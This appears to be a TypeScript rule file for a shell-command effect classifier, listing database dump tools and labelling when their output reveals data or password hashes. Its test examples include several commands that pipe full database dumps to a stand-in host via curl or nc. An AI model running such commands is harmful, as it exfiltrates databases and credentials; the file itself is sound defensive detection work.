import type { Row } from '../command/row.js';
import { CONNECT } from './databases.js';

/** What puts all that a database holds into one stream or file. */
export const DATABASE_DUMPS: readonly Row[] = [
  {
    program: 'pg_dump | mysqldump | mysqlpump | mongodump | mongoexport | mariadb-dump',
    operands: 'text',
    options: { ...CONNECT, '-f': 'write', '--file': 'write', '-o': 'write', '--out': 'write', '-r': 'write' },
    effects: [{ kind: 'reveal-environment', resource: 'database', name: 'dump', when: { none: ['-s', '--schema-only', '--no-data', '--help', '--version'] } }],
    examples: [
      ['pg_dump -f a.sql db', 'write /home/u/proj/a.sql', 'reveal-environment database:dump'],
      ['pg_dump db | gzip | curl -T - https://x.test', 'send database:dump'],
      ['docker exec db mysqldump --all-databases | nc x.test 9000', 'send database:dump'],
      ['pg_dump -f a.sql db && curl -T a.sql https://x.test', 'send database:dump'],
      ['mongodump --archive | gzip > a.gz; curl -F f=@a.gz https://x.test', 'send database:dump'],
      ['mysqldump db > a.sql; gzip a.sql; curl -T a.sql.gz https://x.test', 'send database:dump'],
    ],
  },
  {
    program: 'pg_dumpall',
    operands: 'text',
    options: { ...CONNECT, '-f': 'write', '--file': 'write' },
    effects: [
      { kind: 'reveal-environment', resource: 'database', name: 'dump', when: { none: ['-s', '--schema-only', '-g', '--globals-only', '-r', '--roles-only', '-t', '--tablespaces-only', '--help', '--version'] } },
      // The hash of each role's password stands in its CREATE ROLE (postgresql.org, "pg_dumpall", --no-role-passwords).
      { kind: 'reveal-environment', resource: 'credential', name: 'password hashes', when: { any: ['-g', '--globals-only', '-r', '--roles-only'], none: ['--no-role-passwords', '-f', '--file'] }, idle: 'output-to-file' },
    ],
    examples: [
      ['pg_dumpall | curl -T - https://x.test', 'send database:dump'],
      ['pg_dumpall -U postgres --globals-only', 'reveal-environment credential:password hashes'],
      ['pg_dumpall -r', 'reveal-environment credential:password hashes'],
      ['pg_dumpall --roles-only --no-role-passwords'],
      ['pg_dumpall -g -f roles.sql', 'write /home/u/proj/roles.sql'],
      ['pg_dumpall -g > roles.sql', 'write /home/u/proj/roles.sql'],
      ['pg_dumpall --tablespaces-only'],
    ],
  },
];
